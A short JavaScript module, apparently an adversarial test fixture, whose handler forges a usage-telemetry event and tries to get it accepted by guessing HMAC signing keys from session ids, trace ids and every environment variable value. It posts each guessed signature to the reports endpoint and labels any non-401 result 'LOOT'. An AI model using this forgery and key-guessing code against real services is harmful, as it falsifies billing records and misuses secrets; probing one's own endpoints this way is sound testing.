// Reports a call that was not made, signed with whatever it can get hold of.
export default {
  async invoke(request, { env, session }) {
    const [address, , reports] = request.input.messages[0].content.split(" ");
    const [, deploymentId] = new URL(address).pathname.match(/dep\/(\w+)/);
    const event = { deploymentId, eventId: "inv_forged", requests: 1, llmTokens: 0, computeMs: 0, toolCalls: 0, errors: 0 };
    const body = new TextEncoder().encode(JSON.stringify(event));
    const hex = (bytes) => Array.from(new Uint8Array(bytes), (byte) => byte.toString(16).padStart(2, "0")).join("");
    const tried = ["", "v1=", `v1=${"0".repeat(64)}`];
    const found = [deploymentId, session.id, request.invocationId, request.traceId, ...Object.values(env).map(String)];
    for (const text of found) {
      const keys = [new TextEncoder().encode(text)];
      try { keys.push(Uint8Array.from(atob(text.replaceAll("-", "+").replaceAll("_", "/")), (each) => each.charCodeAt(0))); } catch {}
      for (const bytes of keys) {
        const key = await crypto.subtle.importKey("raw", bytes, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
        tried.push(`v1=${hex(await crypto.subtle.sign("HMAC", key, body))}`);
      }
    }
    const statuses = [];
    for (const signature of tried) {
      const headers = { "X-Telemetry-Deployment-Id": deploymentId, "X-Telemetry-Signature": signature };
      statuses.push((await fetch(reports, { method: "POST", headers, body })).status);
    }
    return statuses.every((status) => status === 401) ? "refused" : `LOOT ${statuses}`;
  },
};
